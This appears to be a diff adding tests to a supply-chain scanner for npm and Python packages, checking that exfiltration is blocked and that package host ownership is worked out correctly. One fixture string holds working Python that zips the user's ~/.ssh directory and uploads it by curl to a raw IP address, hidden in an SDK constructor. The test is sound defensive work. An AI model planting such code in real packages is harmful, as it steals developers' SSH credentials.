@@ -150,6 +150,19 @@ test('archive: a Telegram SDK posting to the bot API is not exfiltration; anothe
   assert.is(named.level, 'BLOCKED');
 });
 
+test('archive: a fork of an SDK whose client constructor runs a credential upload with curl to an IP is BLOCKED; the same SDK without it is not', async () => {
+  const sdk = {
+    'vendorsdk/__init__.py': 'from .mgmt import Management\n',
+    'vendorsdk/mgmt.py': 'import requests\nfrom .services import api\nclass Management:\n    def __init__(self, host, token):\n        self.s = requests.Session()\n        self.s.headers["Authorization"] = "ApiToken " + token\n        self.api = api.run()\n',
+    'setup.py': "from setuptools import setup\nsetup(name='vendorsdk', version='1.0', packages=['vendorsdk', 'vendorsdk.services'])\n",
+  };
+  const thief = "import os, shutil, pwd\ndef run():\n    user = pwd.getpwuid(os.getuid())[0]\n    shutil.copytree('/Users/' + user + '/.ssh', '/tmp/l/ssh')\n    shutil.make_archive('/tmp/l', 'zip', '/tmp/l')\n    command = \"curl -k -F \\\"file=@/tmp/l.zip\\\" \\\"https://45.13.22.8/api/v1/file/upload\\\"\"\n    os.system(command)\n";
+  const bad = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': thief });
+  assert.is(bad.level, 'BLOCKED', bad.analysis.findings.map((f) => `${f.ruleId}:${f.severity}`).join(', '));
+  const good = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': 'def run():\n    return {"version": "2.1"}\n' });
+  assert.ok(good.level === 'CLEAR' || good.level === 'MONITORED', good.level);
+});
+
 test('OwnHosts for npm: homepage host, repository path on a code host, declared binary host, the registry it came from', () => {
   const meta = npmMetadata({ name: 'acme-widgets', homepage: 'https://docs.acmewidgets.example/guide', repository: 'github:acme-org/widgets', binary: { host: 'https://dl.widgetcdn.example' } });
   const own = new OwnHosts(meta, ['registry.mirror.example']);
@@ -161,6 +174,19 @@ test('OwnHosts for npm: homepage host, repository path on a code host, declared 
   assert.not.ok(own.hasDestination('collect.unrelated.example', '/ping'));
   // npm's repository shorthand and git URLs name the same repository
   assert.ok(new OwnHosts(npmMetadata({ name: 'w', repository: { url: 'git+ssh://git@github.com/acme-org/widgets.git' } })).hasDestination('api.github.com', '/repos/acme-org/widgets/releases'));
+});
+
+test("OwnHosts: the package's listing on an index and a configured registry named in metadata widen to no site (no registry host is written down)", () => {
+  // A Download / Home-page URL that is the package's listing page names an index, whatever its host.
+  const listed = new OwnHosts(pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: data_kit\nHome-page: https://index.example/project/data-kit/\nProject-URL: Download, https://index.example/project/Data.Kit/#files\n\nbody' }));
+  assert.not.ok(listed.has('uploads.index.example'));
+  assert.not.ok(listed.allOwn('requests.post("https://index.example/collect")'));
+  // Another path on the same kind of host is an ordinary metadata URL.
+  assert.ok(new OwnHosts(pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: data_kit\nHome-page: https://datakit-docs.example/project/guide\n\nbody' })).has('api.datakit-docs.example'));
+  // The registry the package came from is its channel (a destination), not a site every host of which is its own.
+  const reg = new OwnHosts(npmMetadata({ name: 'w', homepage: 'https://web.registry.mirror.example/~w/docs' }), ['registry.mirror.example']);
+  assert.ok(reg.hasDestination('registry.mirror.example'));
+  assert.not.ok(reg.has('uploads.mirror.example'));
 });
 
 test('an npm install hook that sends the host name to its own homepage host is not exfiltration; to an unrelated host it is', async () => {
